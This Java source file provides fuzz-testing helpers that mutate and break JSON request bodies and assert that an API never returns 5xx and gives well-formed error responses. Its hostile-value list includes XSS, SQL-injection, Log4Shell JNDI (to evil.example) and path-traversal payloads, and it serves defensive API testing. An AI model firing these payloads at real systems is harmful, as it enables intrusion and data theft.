package org.linkway.platform.testing;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * The pieces of a fuzz test of a JSON body, for property tests to draw from: the paths of a valid
 * body, a pool of hostile values, edits that change a valid body one path at a time (replace,
 * drop, add, wrap in an array), bodies that are not JSON at all, and the check every answer must
 * pass: never a 5xx, and every 4xx a problem (or a FHIR OperationOutcome) that names something.
 *
 * <p>Hostile strings are written with {@code \\uXXXX} escapes for everything outside printable
 * ASCII, so that a lone surrogate or a NUL still makes well-formed JSON and reaches the service.
 */
public final class JsonFuzz {

  private static final JsonMapper JSON = JsonMapper.builder().build();
  private static final int MB = 1024 * 1024;

  private JsonFuzz() {}

  /** What an edit does at its path. */
  public enum Kind { REPLACE, DROP, ADD, WRAP_IN_ARRAY }

  /**
   * One edit: {@code path} indexes {@link #paths(String)} of the valid body (taken modulo their
   * number); {@code value} is raw JSON text for REPLACE and ADD.
   */
  public record Edit(Kind kind, int path, String value) {}

  /** A body to send, and how it was made, to show when a property fails. */
  public record Body(byte[] bytes, String description) {
    @Override
    public String toString() {
      return description.length() > 300 ? description.substring(0, 300) + "…" : description;
    }
  }

  /** Values no field should take quietly, as raw JSON: of every type, empty, huge, hostile. */
  public static final List<String> VALUES = List.of(
      "null", "true", "false", "0", "-1", "1", "2.5", "-0.0", "2147483647", "2147483648", "-2147483649",
      "9223372036854775808", "1e308", "1e400", "-1e400", "1e-400", "1E+2147483648", "123456789012345678901234567890.123",
      "{}", "[]", "[null]", "[[]]", "{\"a\": {\"b\": {}}}", "[" + "\"x\",".repeat(1_000) + "\"x\"]",
      string(""), string(" "), string("\u0000"), string("\u0007"), string("\u001b[31m"), string("\r\n"), string("\t"),
      string("\uD800"), string("\uDC00x"), string("\uFEFF"), string("\u200B"), string("\u202Eevil"),
      string("٩٤٣٤٧٦٥٩١٩"), string("９４３４７６５９１９"), string("Зоя"), string("李小龍"), string("محمد"), string("𝔸𝕕𝕒"),
      string("Zoë O'Brien-Smith"), string("😀"), string("<script>alert(1)</script>"), string("' OR '1'='1"),
      string("Robert'); DROP TABLE patients;--"), string("${jndi:ldap://evil.example/a}"), string("../../etc/passwd"),
      string("%00"), string("null"), string("NaN"), string("-1"), string("2026-02-30"), string("1899-12-31"),
      string("2999-01-01"), string("+10000-01-01"), string("LONELINESS"), string("QMM"), string("D82044"),
      string("x".repeat(2_001)), string("x".repeat(100_000)));

  /** The value of a JSON string, escaped so that anything can be carried. */
  public static String string(String text) {
    StringBuilder json = new StringBuilder(text.length() + 2).append('"');
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c == '"' || c == '\\') {
        json.append('\\').append(c);
      } else if (c < 0x20 || c > 0x7e) {
        json.append(String.format("\\u%04x", (int) c));
      } else {
        json.append(c);
      }
    }
    return json.append('"').toString();
  }

  /** Every value of a body but the whole, as paths: {@code patient.givenName}, {@code needs[0]}. */
  public static List<String> paths(String json) {
    List<String> paths = new ArrayList<>();
    collect(JSON.readTree(json), "", paths);
    return paths;
  }

  private static void collect(JsonNode node, String at, List<String> paths) {
    if (node.isObject()) {
      for (var field : node.properties()) {
        String path = at.isEmpty() ? field.getKey() : at + "." + field.getKey();
        paths.add(path);
        collect(field.getValue(), path, paths);
      }
    } else if (node.isArray()) {
      for (int i = 0; i < node.size(); i++) {
        String path = at + "[" + i + "]";
        paths.add(path);
        collect(node.get(i), path, paths);
      }
    }
  }

  /** The valid body with the edits made in turn; an edit whose path an earlier one removed is left out. */
  public static Body edited(String json, List<Edit> edits) {
    List<String> paths = paths(json);
    JsonNode root = JSON.readTree(json);
    Map<String, String> raws = new HashMap<>();
    List<String> done = new ArrayList<>();
    for (Edit edit : edits) {
      if (paths.isEmpty()) break;
      String path = paths.get(Math.floorMod(edit.path(), paths.size()));
      List<Object> steps = steps(path);
      JsonNode parent = walk(root, steps.subList(0, steps.size() - 1));
      Object last = steps.get(steps.size() - 1);
      if (parent == null || !(last instanceof Integer ? parent.isArray() && (Integer) last < parent.size()
          : parent.isObject() && parent.has((String) last))) {
        continue;
      }
      String placeholder = "@@fuzz-" + raws.size() + "@@";
      switch (edit.kind()) {
        case REPLACE -> {
          raws.put(placeholder, edit.value());
          set(parent, last, JsonNodeFactory.instance.stringNode(placeholder));
          done.add(path + " = " + abbreviate(edit.value()));
        }
        case DROP -> {
          if (last instanceof Integer i) ((ArrayNode) parent).remove(i);
          else ((ObjectNode) parent).remove((String) last);
          done.add("no " + path);
        }
        case ADD -> {
          JsonNode target = walk(root, steps);
          if (target == null || !target.isObject()) continue;
          raws.put(placeholder, edit.value());
          ((ObjectNode) target).set("fuzz" + raws.size(), JsonNodeFactory.instance.stringNode(placeholder));
          done.add(path + ".fuzz" + raws.size() + " = " + abbreviate(edit.value()) + " (a field it does not have)");
        }
        case WRAP_IN_ARRAY -> {
          JsonNode value = walk(root, steps);
          ArrayNode wrapped = JsonNodeFactory.instance.arrayNode();
          wrapped.add(value);
          set(parent, last, wrapped);
          done.add(path + " in an array");
        }
      }
    }
    String written = root.toString();
    for (Map.Entry<String, String> raw : raws.entrySet()) {
      written = written.replace("\"" + raw.getKey() + "\"", raw.getValue());
    }
    return new Body(written.getBytes(StandardCharsets.UTF_8), String.join("; ", done));
  }

  /**
   * A body that is not the JSON of a request: {@code kind} picks cut short, a character slipped in,
   * invalid UTF-8, a bare literal, deep nesting or over 1 MB; {@code at} where (modulo the length).
   */
  public static Body broken(String json, int kind, int at) {
    byte[] valid = json.getBytes(StandardCharsets.UTF_8);
    int position = Math.floorMod(at, valid.length);
    List<String> literals = List.of("", " ", "null", "[]", "\"body\"", "1", "true", "{", "}", "{}{}", "[{}]",
        "{\"\": 1}", "{\"a\" 1}", "{'a': 1}", "{\"a\": 1,}", "{\"a\": NaN}", "{\"a\": 01}", "\uFEFF{}");
    return switch (Math.floorMod(kind, 7)) {
      case 0 -> new Body(java.util.Arrays.copyOf(valid, position), "cut short at byte " + position);
      case 1 -> {
        String inserted = List.of("{", "}", "[", "]", "\"", ",", ":", "\u0000", "\\", "x", "//", "/*").get(Math.floorMod(at, 12));
        yield new Body((json.substring(0, Math.min(position, json.length())) + inserted
            + json.substring(Math.min(position, json.length()))).getBytes(StandardCharsets.UTF_8),
            "'" + inserted + "' slipped in at " + position);
      }
      case 2 -> {
        byte[] bytes = new byte[valid.length + 2];
        System.arraycopy(valid, 0, bytes, 0, position);
        bytes[position] = (byte) 0xC3;
        bytes[position + 1] = (byte) 0x28;
        System.arraycopy(valid, position, bytes, position + 2, valid.length - position);
        yield new Body(bytes, "invalid UTF-8 at byte " + position);
      }
      case 3 -> {
        String literal = literals.get(Math.floorMod(at, literals.size()));
        yield new Body(literal.getBytes(StandardCharsets.UTF_8), "the body " + string(literal));
      }
      case 4 -> {
        int depth = 1 + Math.floorMod(at, 3_000);
        yield new Body(("[".repeat(depth) + "]".repeat(depth)).getBytes(StandardCharsets.UTF_8), depth + " nested arrays");
      }
      case 5 -> {
        ObjectNode node = (ObjectNode) JSON.readTree(json);
        node.put("fuzzPadding", "p".repeat(MB + Math.floorMod(at, 1_000)));
        yield new Body(node.toString().getBytes(StandardCharsets.UTF_8), "over 1 MB");
      }
      default -> new Body(("[" + json + "]").getBytes(StandardCharsets.UTF_8), "the body in an array");
    };
  }

  /**
   * The answer to a fuzzed body must be no 5xx, and a refusal (4xx) must be problem+json with its
   * status and a detail, each named error with a field and a reason; or, where the endpoint speaks
   * FHIR, an OperationOutcome whose issues each have a code and diagnostics. Gives the status.
   */
  public static int assertAnsweredWell(Body body, EntityExchangeResult<byte[]> result) {
    int status = result.getStatus().value();
    String text = result.getResponseBody() == null ? "" : new String(result.getResponseBody(), StandardCharsets.UTF_8);
    String shown = status + " " + abbreviate(text) + " for " + body;
    assertThat(status).as("no 5xx: %s", shown).isLessThan(500);
    if (status < 400) return status;
    MediaType type = result.getResponseHeaders().getContentType();
    assertThat(type).as("a refusal says what it is: %s", shown).isNotNull();
    JsonNode answer = JSON.readTree(text);
    if (type.isCompatibleWith(MediaType.parseMediaType("application/fhir+json"))) {
      assertThat(answer.path("resourceType").asString("")).as(shown).isEqualTo("OperationOutcome");
      assertThat(answer.path("issue").isEmpty()).as("an OperationOutcome with issues: %s", shown).isFalse();
      for (JsonNode issue : answer.path("issue")) {
        assertThat(issue.path("code").asString("")).as(shown).isNotBlank();
        assertThat(issue.path("diagnostics").asString("")).as(shown).isNotBlank();
      }
      return status;
    }
    assertThat(type.isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)).as("problem+json: %s", shown).isTrue();
    assertThat(answer.path("status").asInt()).as(shown).isEqualTo(status);
    assertThat(answer.path("detail").asString("")).as("a problem with a detail: %s", shown).isNotBlank();
    for (JsonNode error : answer.path("errors")) {
      assertThat(error.path("field").asString("")).as("each error names a field: %s", shown).isNotBlank();
      assertThat(error.path("reason").asString("")).as("each error says why: %s", shown).isNotBlank();
    }
    if (status == 400) {
      assertThat(answer.path("errors").isEmpty()).as("a 400 names the fields: %s", shown).isFalse();
    }
    return status;
  }

  private static void set(JsonNode parent, Object last, JsonNode value) {
    if (last instanceof Integer i) ((ArrayNode) parent).set(i, value);
    else ((ObjectNode) parent).set((String) last, value);
  }

  private static JsonNode walk(JsonNode root, List<Object> steps) {
    JsonNode node = root;
    for (Object step : steps) {
      if (node == null) return null;
      node = step instanceof Integer i ? (node.isArray() ? node.get(i) : null) : (node.isObject() ? node.get((String) step) : null);
    }
    return node;
  }

  private static List<Object> steps(String path) {
    List<Object> steps = new ArrayList<>();
    for (String part : path.split("\\.")) {
      int bracket = part.indexOf('[');
      if (bracket != 0) steps.add(bracket < 0 ? part : part.substring(0, bracket));
      while (bracket >= 0) {
        int close = part.indexOf(']', bracket);
        steps.add(Integer.parseInt(part.substring(bracket + 1, close)));
        bracket = part.indexOf('[', close);
      }
    }
    return steps;
  }

  private static String abbreviate(String text) {
    String flat = text.replace('\n', ' ');
    return flat.length() > 120 ? flat.substring(0, 120) + "… (" + flat.length() + " chars)" : flat;
  }
}
